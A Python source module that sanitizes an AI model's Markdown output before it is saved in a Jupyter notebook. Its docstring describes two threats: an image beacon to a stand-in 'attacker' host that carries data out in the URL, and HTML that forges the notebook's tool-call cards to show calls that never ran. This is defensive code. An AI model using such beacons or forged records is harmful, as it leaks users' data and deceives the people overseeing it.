"""Model Markdown made safe to save: the notebook must be a faithful transcript.

What the model writes becomes a ``text/markdown`` output, which JupyterLab renders and every
later reader of the saved ``.ipynb`` sees (nbconvert, nbviewer, GitHub). Rendered as it is,
model text could

* load a remote image when the notebook is opened (``![](https://attacker/?d=<data>)``, a raw
  ``<img src=…>``, ``<svg><image href=…>``, ``style="background:url(…)"``): a beacon that sends
  whatever the model encoded in the URL;
* draw HTML that looks like the layer's own tool cards (``<div class='clawnb-card
  clawnb-s-done'>✓ bash …``): the card's look is nothing but those classes, which the
  stylesheet the layer puts in the same output turns into a bordered, coloured box — so a
  model that can set a ``class`` can forge a record of calls that never ran.

Escaping patterns in the Markdown source is not enough: Markdown renderers disagree about what
is code and what is HTML (a raw ``<img>`` indented under a list item is HTML to CommonMark and
"indented code" to a line-by-line guess). So :func:`sanitize_markdown` does not guess. It

1. **renders** the Markdown with markdown-it-py (CommonMark, plus tables and strikethrough),
   with raw HTML turned off — a tag the model typed is shown as text, as it was written;
2. turns every image into a plain link (``image: alt``) that loads nothing until clicked;
3. **cleans** the HTML with nh3 (the Rust ammonia sanitizer) against an allowlist: text
   formatting, lists, tables, code, links (``http``/``https``/``mailto`` only, with
   ``rel="noopener nofollow noreferrer"``). No ``img``, no ``style``, no ``id``, and no
   ``class`` except a code block's ``language-…`` (for highlighting): nothing from the model
   can carry the cards' classes or any look of its own;
4. hands the HTML back as **one line** wrapped in a ``<div>``, with ``[``/``]`` and newlines as
   character references. The result is put into a Markdown output, and must stay HTML there:
   one line that starts with ``<div>`` is a single HTML block to every CommonMark renderer
   (a blank line would end it and let the rest be parsed as Markdown again), and where it
   lands inline (a note wrapped in ``*…*``) no text in it can open a link or an image.

Both libraries are imported on first use (``import clawnb`` stays cheap); they come with the
``notebook`` extra.
"""

from __future__ import annotations

import re
from functools import cache
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from markdown_it import MarkdownIt

__all__ = ["ALLOWED_TAGS", "sanitize_markdown"]

# What rendered Markdown may contain. markdown-it emits only these (raw HTML is off); the
# allowlist is the second wall, should a renderer rule ever emit something else.
ALLOWED_TAGS = frozenset(
    {
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    }
)
_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "code": {"class"}}
_ALIGN = {
    "th": {"align": {"left", "right", "center"}},
    "td": {"align": {"left", "right", "center"}},
}
_SCHEMES = {"http", "https", "mailto"}
_LINK_REL = "noopener nofollow noreferrer"
_LANGUAGE = re.compile(r"^language-[A-Za-z0-9_+#.-]{1,40}$")
_TEXT_ALIGN = re.compile(r"^text-align:\s*(left|right|center)$")


def sanitize_markdown(text: str) -> str:
    """``text`` (Markdown from the model) as one line of sanitized HTML, safe to put into a
    ``text/markdown`` output (see the module docstring); ``""`` for blank text."""
    if not text.strip():
        return ""
    import nh3  # first use only: keeps `import clawnb` cheap

    md = _renderer()
    env: dict[str, Any] = {}
    tokens = md.parse(text, env)
    _adjust(tokens)
    rendered = md.renderer.render(tokens, md.options, env)
    clean = nh3.clean(
        rendered,
        tags=set(ALLOWED_TAGS),
        attributes={tag: set(names) for tag, names in _ATTRIBUTES.items()},
        tag_attribute_values={tag: {k: set(v) for k, v in a.items()} for tag, a in _ALIGN.items()},
        attribute_filter=_attribute_filter,
        url_schemes=set(_SCHEMES),
        link_rel=_LINK_REL,
        strip_comments=True,
    )
    # One line: a newline (or a blank line inside a code block) must not end the HTML block
    # and hand the rest back to the Markdown renderer; brackets cannot open a link or image
    # wherever the line lands. Inside a tag only attribute values can hold these characters,
    # and character references mean the same there.
    clean = clean.replace("\r", "").replace("\n", "&#10;")
    clean = clean.replace("[", "&#91;").replace("]", "&#93;")
    return f"<div>{clean}</div>"


@cache
def _renderer() -> MarkdownIt:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    return md


def _adjust(tokens: list[Any]) -> None:
    """Images become links; a table cell's ``style="text-align:…"`` becomes ``align``."""
    for token in tokens:
        if token.children:
            _adjust(token.children)
            token.children = _images_as_links(token.children)
        if token.type in ("th_open", "td_open"):
            style = token.attrs.pop("style", None)
            match = _TEXT_ALIGN.match(str(style or ""))
            if match:
                token.attrs["align"] = match.group(1)


def _images_as_links(children: list[Any]) -> list[Any]:
    """Each ``image`` token → ``link_open``, ``text("image: alt")``, ``link_close``: the
    address stays visible and nothing is fetched before someone clicks it."""
    if not any(child.type == "image" for child in children):
        return children
    from markdown_it.token import Token

    out: list[Any] = []
    for child in children:
        if child.type != "image":
            out.append(child)
            continue
        alt = "".join(c.content for c in child.children or ()) or child.content
        opening = Token("link_open", "a", 1)
        opening.attrs = {"href": str(child.attrs.get("src", ""))}
        title = child.attrs.get("title")
        if title:
            opening.attrs["title"] = str(title)
        label = Token("text", "", 0)
        label.content = f"image: {alt}" if alt else "image"
        out += [opening, label, Token("link_close", "a", -1)]
    return out


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    """Only a code block's ``language-…`` class survives (a class of its own, never one of
    the layer's): every other class, on any element, is dropped."""
    if attribute != "class":
        return value
    if tag != "code":
        return None
    kept = [name for name in value.split() if _LANGUAGE.match(name)]
    return kept[0] if kept else None
